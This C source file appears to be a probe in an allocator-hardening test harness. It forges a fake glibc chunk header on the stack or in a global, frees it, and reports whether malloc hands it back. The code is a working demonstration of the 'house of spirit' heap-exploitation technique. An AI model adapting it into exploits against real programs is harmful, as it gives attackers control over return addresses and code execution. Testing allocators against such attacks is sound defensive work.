/* House of spirit: forge a chunk header in memory the allocator never handed out (a
 * stack buffer or a global), free() the forged pointer, and see whether the next malloc
 * of that size returns it: the attacker then controls a "heap" block that overlays the
 * stack (return addresses) or a global.
 *
 *   stack | global   where the fake chunk lives (default: stack) */
#include "attack.h"

/* Room for the fake chunk, its neighbour's header and slack. */
#define FAKE_BYTES (MEDIUM_REQUEST + 4 * GLIBC_HEADER + 64)

static _Alignas(64) unsigned char global_area[FAKE_BYTES];

/* Lay a glibc-style free-able chunk of `chunk` bytes at area + GLIBC_HEADER (16-aligned)
 * with a plausible next chunk after it; returns the user pointer. */
static void *forge(unsigned char *area, size_t chunk)
{
    memset(area, 0, FAKE_BYTES);
    unsigned char *user = area + GLIBC_HEADER;
    poke(user, -GLIBC_SIZE_WORD, chunk | GLIBC_PREV_INUSE);
    /* The next chunk's size word: sane, so "invalid next size" checks pass. */
    poke(user, (ptrdiff_t)chunk - GLIBC_SIZE_WORD, 0x20 | GLIBC_PREV_INUSE);
    return user;
}

static void attack(unsigned char *area, size_t request, const char *where)
{
    size_t chunk = request + GLIBC_SIZE_WORD;
    void *fake = forge(area, chunk);
    free(launder(fake));
    void *p = malloc(request);
    if (p == fake)
        attack_succeeded("malloc returned the fake chunk on the %s at %p", where, p);
    if (overlaps(p, request, area, FAKE_BYTES))
        attack_succeeded("malloc returned %p inside the %s area", p, where);
    free(p);
    attack_failed("the fake chunk was not reused");
}

int main(int argc, char **argv)
{
    size_t request = attack_request(attack_tier(argc, argv));
    const char *where = attack_variant(argc, argv, "stack");
    if (strcmp(where, "stack") == 0) {
        _Alignas(64) unsigned char stack_area[FAKE_BYTES];
        attack(stack_area, request, "stack");
    } else if (strcmp(where, "global") == 0) {
        attack(global_area, request, "global");
    }
    return ATTACK_USAGE;
}
